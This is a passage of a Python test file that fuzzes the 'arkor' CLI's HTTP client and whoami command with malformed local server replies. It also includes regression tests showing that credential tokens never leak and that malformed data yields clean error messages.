                    b"HTTP/1.1 100 Continue\r\n\r\n",
                )
            )
        lines = [status]
        chunked = False
        for _ in range(rng.choice((0, 1, 2, 3, rng.randint(0, 10)))):
            roll = rng.random()
            if roll < 0.25:
                declared = rng.choice(
                    (
                        str(len(body)),
                        str(len(body)),
                        str(len(body) + rng.randint(1, 100)),
                        str(max(0, len(body) - rng.randint(1, 100))),
                        "-1",
                        "abc",
                        "",
                        f" {len(body)}",
                        f"+{len(body)}",
                        "0x10",
                        "1e3",
                        "\u00b2",
                        "\u00b3\u00b9",
                        "1" * rng.randint(4000, 5000),
                        "9" * 20,
                        "1" + "0" * 15,
                        f"{len(body)}, {len(body)}",
                    )
                )
                lines.append(b"Content-Length: " + declared.encode("latin-1"))
            elif roll < 0.35:
                chunked = True
                lines.append(b"Transfer-Encoding: " + rng.choice((b"chunked", b"chunked", b"gzip, chunked", b"x")))
            elif roll < 0.5:
                location = self._location(rng, port, closed).encode("utf-8", "surrogatepass")
                lines.append(rng.choice((b"Location: ", b"URI: ")) + location)
            elif roll < 0.65:
                lines.append(b"Deprecation: " + rng.choice((b"true", b"TRUE", b" true ", b"false", b"", b"\xff")))
                warning = rng.choice(
                    ('299 - "Old \\"SDK\\""', "299 arkor", '199 - "x"', '299 - "\\', self._text(rng), "299 - " * 9000)
                )
                lines.append(b"Warning: " + warning.encode("utf-8", "surrogatepass"))
                lines.append(b"Sunset: " + self._text(rng, 6).encode("utf-8", "surrogatepass"))
            elif roll < 0.75:
                lines.append(b"Content-Type: " + rng.choice((b"application/json", b"text/html", rng.randbytes(8))))
            elif roll < 0.97:
                name = rng.choice((b"X-Junk", b"Connection", b"Set-Cookie", b"", b"No colon", b" folded", b"\xff\x00"))
                lines.append(name + b": " + self._text(rng).encode("utf-8", "surrogatepass").replace(b"\n", b" "))
            else:
                lines.append(rng.choice((b"X-Big: " + b"b" * 70000, b"\r\n".join(b"X-%d: 1" % n for n in range(120)))))
        if chunked:
            pieces = []
            start = 0
            while start < len(body):
                size = rng.randint(1, len(body) - start)
                mark = rng.choice(
                    (f"{size:x}", f"{size:x}", f"{size:X};ext=1", "zz", "-1", f"{size + 5:x}", "", "f" * 20, "1" * 5000)
                )
                pieces.append(mark.encode() + b"\r\n" + body[start : start + size] + b"\r\n")
                start += size
            pieces.append(
                rng.choice((b"0\r\n\r\n", b"0\r\n\r\n", b"0\r\n", b"", b"0\r\nX-Trailer: 1\r\n\r\n", b"zz\r\n"))
            )
            body = b"".join(pieces)
        eol = b"\r\n" if rng.random() < 0.9 else rng.choice((b"\n", b"\r"))
        data = eol.join(lines) + eol + eol + body
        if rng.random() < 0.05:
            data = data[: rng.randrange(len(data) + 1)]
        return data, rng.choice(("all", "all", "all", "all", "split", "cut", "rst", "none"))

    def _garbage_server(self) -> Any:
        """A garbage server for this test, with name resolution kept to
        loopback: a redirect that names any other host is refused before
        any lookup, so the fuzzing never reaches beyond this machine."""
        real = socket.getaddrinfo
        loopback = ("127.0.0.1", "localhost", "::1")

        def getaddrinfo(host: Any, *args: Any, **kwargs: Any) -> Any:
            name = host.decode("ascii", "replace") if isinstance(host, bytes) else host
            if name not in loopback:
                raise socket.gaierror(socket.EAI_NONAME, "fuzz: only loopback is looked up")
            return real(host, *args, **kwargs)

        patcher = mock.patch.object(socket, "getaddrinfo", getaddrinfo)
        patcher.start()
        self.addCleanup(patcher.stop)
        server = self._Garbage()
        self.addCleanup(server.stop)
        return server

    @staticmethod
    def _closed_port() -> int:
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            return int(s.getsockname()[1])

    def _check_redirected_auth(self, server: Any, token: str, fail: Callable[[str], AssertionError]) -> None:
        """The bearer token reaches the origin it was issued for, and no other."""
        ours = f"127.0.0.1:{server.port}".encode()
        for request in server.requests:
            head = request.partition(b"\r\n\r\n")[0].lower()
            if token.encode() in request and b"\r\nhost: " + ours + b"\r\n" not in head + b"\r\n":
                raise fail(f"the token went to another origin: {request[:300]!r}")

    def test_http_reply(self) -> None:
        """_http returns a reply or raises ArkorError, whatever comes back."""
        import functools

        env = {"PATH": os.environ.get("PATH", os.defpath)}  # no proxies from the real environment
        server = self._garbage_server()
        closed = self._closed_port()
        with mock.patch.dict(os.environ, env, clear=True):
            for rounds, rng in self._rounds("http-reply", 0.5):
                token = f"fuzz-token-{rng.randrange(16**12):012x}"
                server.requests, server.answers = [], []
                server.answer = lambda rng=rng: self._garbage_answer(rng, server.port, closed)

                fail = functools.partial(self._failure, "http-reply", rounds, server.answers)

                url = f"http://127.0.0.1:{server.port}/v1/me"
                headers = {"Accept": "application/json", "Authorization": f"Bearer {token}"}
                try:
                    reply = arkor_cli._http("GET", url, headers=headers, body=None, timeout=2)
                except arkor_cli.ArkorError as exc:
                    if token in exc.message:
                        raise fail("the token is in the error message") from None
                except Exception as exc:  # noqa: BLE001 - any other exception is the finding
                    raise fail(f"_http raised {type(exc).__name__}", exc) from None
                else:
                    if not isinstance(reply.status, int) or not isinstance(reply.body, bytes):
                        raise fail(f"a reply with status {reply.status!r} and body {type(reply.body).__name__}")
                    if len(reply.body) > 1024 * 1024:
                        raise fail(f"a reply of {len(reply.body)} bytes, over the 1 MiB cap")
                self._check_redirected_auth(server, token, fail)

    def test_whoami_garbage(self) -> None:
        """``arkor whoami`` against a server that answers garbage: one line of
        error at worst, never a traceback, an internal error, or the token."""
        import contextlib
        import functools
        import io

        home = tempfile.mkdtemp(prefix="arkor-fuzz-home-")
        self.addCleanup(shutil.rmtree, home, True)
        path = os.path.join(home, ".arkor", "credentials.json")
        os.makedirs(os.path.dirname(path))
        server = self._garbage_server()
        closed = self._closed_port()
        base = f"http://127.0.0.1:{server.port}"
        for rounds, rng in self._rounds("whoami", 0.5):
            token = f"fuzz-token-{rng.randrange(16**12):012x}"
            from_env = rng.random() < 0.5
            with open(path, "w", encoding="utf-8") as f:
                stored = {
                    "mode": "anon",
                    "token": token,
                    "anonymousId": "anon-fuzz",
                    "arkorCloudApiUrl": "https://unused.invalid" if from_env else base,
                    "orgSlug": "fuzz-org",
                }
                json.dump(stored, f)
            env = {
                "HOME": home,
                "USERPROFILE": home,
                "PATH": os.environ.get("PATH", os.defpath),
                "ARKOR_HTTP_TIMEOUT": "2",
            }
            if from_env:
                env["ARKOR_CLOUD_API_URL"] = base
            if "SYSTEMROOT" in os.environ:  # Windows sockets need it
                env["SYSTEMROOT"] = os.environ["SYSTEMROOT"]
            argv = ["whoami", "--json"] if rng.random() < 0.3 else ["whoami"]
            server.requests, server.answers = [], []
            server.answer = lambda rng=rng: self._garbage_answer(rng, server.port, closed)
            out, err = io.StringIO(), io.StringIO()

            fail = functools.partial(self._failure, "whoami", rounds, {"argv": argv, "answers": server.answers})

            try:
                with contextlib.ExitStack() as stack:
                    stack.enter_context(mock.patch.dict(os.environ, env, clear=True))
                    stack.enter_context(mock.patch.object(sys, "stdin", io.StringIO("")))
                    stack.enter_context(contextlib.redirect_stdout(out))
                    stack.enter_context(contextlib.redirect_stderr(err))
                    status = arkor_cli.main(argv)
            except Exception as exc:  # noqa: BLE001 - main must catch everything itself
                raise fail(f"main raised {type(exc).__name__}", exc) from None
            if status not in (0, 1) or isinstance(status, bool):
                raise fail(f"main returned {status!r}, not 0 or 1")
            for bad in ("Traceback", "Internal error"):
                if bad in err.getvalue():
                    raise fail(f"stderr says {bad!r}: {err.getvalue()[-500:]!r}")
            if token in out.getvalue() or token in err.getvalue():
                raise fail("the token reached the terminal")
            self._check_redirected_auth(server, token, fail)


class FuzzRegressionTest(OAuthCase):
    """Each crash the fuzz driver found, kept as a test of its own."""

    def test_deeply_nested_json(self) -> None:
        self.write_creds(b"[" * 1000)
        code, _, err = self.run_main("whoami")
        self.assertEqual(code, 1)
        # (Python 3.11 overflows the stack on it; 3.12 reads it as truncated.)
        self.assertTrue(err.startswith(f"{self.creds} does not hold valid arkor credentials (not JSON: "), err)
        code, out, _ = self.run_main("logout", "--yes")  # a broken file can still be removed
        self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
        self.sign_in_anon()
        self.cloud.script("GET", "/v1/me", Answer(200, body=b"[" * 1000))
        code, _, err = self.run_main("whoami")
        self.assertEqual(code, 1)
        self.assertTrue(err.startswith("Unexpected answer from GET /v1/me (200): not JSON: [[[["), err)

    def test_token_with_control_characters_never_reaches_output(self) -> None:
        # http.client refuses such a header with an error quoting it whole.
        for token in ("anon-secret-token\n", "anon-secret token", "anon-secret-\u00e9"):
            with self.subTest(token=token):
                self.write_creds(
                    {
                        "mode": "anon",
                        "token": token,
                        "anonymousId": "a",
                        "arkorCloudApiUrl": self.cloud.url,
                        "orgSlug": "o",
                    }
                )
                code, out, err = self.run_main("whoami")
                self.assertEqual((code, out), (1, ""))
                self.assertEqual(
                    err,
                    f"{self.creds} does not hold valid arkor credentials (token is not a token)."
                    " Fix it, or sign in again with `arkor login`.\n",
                )
                self.assertNotIn("secret", err)
        self.assertEqual(self.cloud.requests, [])

    def test_nan_and_infinite_expiry(self) -> None:
        for raw in ('"expiresAt": NaN', '"expiresAt": Infinity', '"expiresAt": 1e999', '"expiresAt": ' + "9" * 400):
            with self.subTest(raw=raw):
                text = json.dumps(self.auth0_creds()).replace(f'"expiresAt": {self.auth0_creds()["expiresAt"]}', raw)
                self.write_creds(text.encode())
                code, _, err = self.run_main("whoami")
                self.assertEqual(code, 1)
                self.assertIn("does not hold valid arkor credentials", err)

    def test_odd_content_lengths(self) -> None:
        self.sign_in_anon()
        body = b'{"user": {"id": "u1"}, "orgs": []}'
        # A non-ASCII digit is no length: the body is read to the close.
        self.cloud.script("GET", "/v1/me", Answer(200, body=body, headers={"Content-Length": "\u00b2"}))
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out, err), (0, '{\n  "id": "u1"\n}\n', ""))
        # More digits than int() takes: one clear line, not a crash.
        self.cloud.script("GET", "/v1/me", Answer(200, body=body, headers={"Content-Length": "9" * 5000}))
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out), (1, ""))
        self.assertRegex(err, rf"^Unexpected answer from GET {self.cloud.url}/v1/me: [^\n]+\n$")

    def test_redirects_urllib_cannot_follow(self) -> None:
        self.sign_in_anon()
        for location in ("http://127.0.0.1:99999/v1/me", "http://127.0.0.1:abc/", "ftp://127.0.0.1:21/x"):
            with self.subTest(location=location):
                self.cloud.script("GET", "/v1/me", Answer(302, headers={"Location": location}))
                code, out, err = self.run_main("whoami")
                self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (302). Token may be expired.\n", ""))
        # One that urllib cannot even parse: a clear line.
        self.cloud.script("GET", "/v1/me", Answer(302, headers={"Location": "http://["}))
        code, out, err = self.run_main("whoami")
        self.assertEqual(
            (code, out, err), (1, "", f"Unexpected answer from GET {self.cloud.url}/v1/me: Invalid IPv6 URL\n")
        )

    def test_redirect_body_is_never_read(self) -> None:
        # urllib drains a redirect's body before following it; a server that
        # promises a petabyte must not make arkor try.
        self.sign_in_anon()
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
        self.cloud.script(
            "GET",
            "/v1/me",
            Answer(302, body=b"x" * 1000, headers={"Location": "/v1/me"}, content_length=10**15, hold=30),
            Answer(200, {"user": {"id": "u1"}, "orgs": []}),
        )
        started = time.monotonic()
        code, out, _ = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="5")
        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
        self.assertLess(time.monotonic() - started, 20)  # a hang guard: the body stalls for 30 s

    def test_lone_surrogate_in_state(self) -> None:
        callback = arkor_cli._Callback("expected")
        self.assertEqual(
            callback.decide({"code": ["c"], "state": ["\udcff"]}),
            (400, "State mismatch \u2014 aborting to prevent CSRF"),
        )
        self.assertTrue(callback.failure)

    def test_request_targets_that_urlsplit_rejects(self) -> None:
        self.assertEqual(arkor_cli._split_target("http://[/callback?code=c"), ("/callback", "?", "code=c"))
        self.assertEqual(arkor_cli._split_target("http://127.0.0.1:1/callback?a=b#f"), ("/callback", "?", "a=b"))
        proc, url, _ = self.start_login()
        port = self.ports[0]
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(b"GET http://[/x HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % port)
            self.assertTrue(s.recv(100).startswith(b"HTTP/1.0 404"))
        status, _, _ = browse(url)
        self.assertEqual(status, 200)
        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))


class SecurityClaimsTest(unittest.TestCase):
    def test_every_test_named_in_security_md_exists(self) -> None:
        import re

        with open(os.path.join(HERE, "SECURITY.md"), encoding="utf-8") as f:
            text = f.read()
        named = set(re.findall(r"`([A-Z][A-Za-z]+Test)(?:\.(test_\w+))?`", text))
        self.assertGreater(len(named), 20)
        module = sys.modules[__name__]
        for cls, method in sorted(named):
            with self.subTest(claim=f"{cls}.{method}"):
                self.assertTrue(hasattr(module, cls), f"{cls} does not exist")
                if method:
                    self.assertTrue(hasattr(getattr(module, cls), method), f"{cls}.{method} does not exist")


if __name__ == "__main__":
    unittest.main()
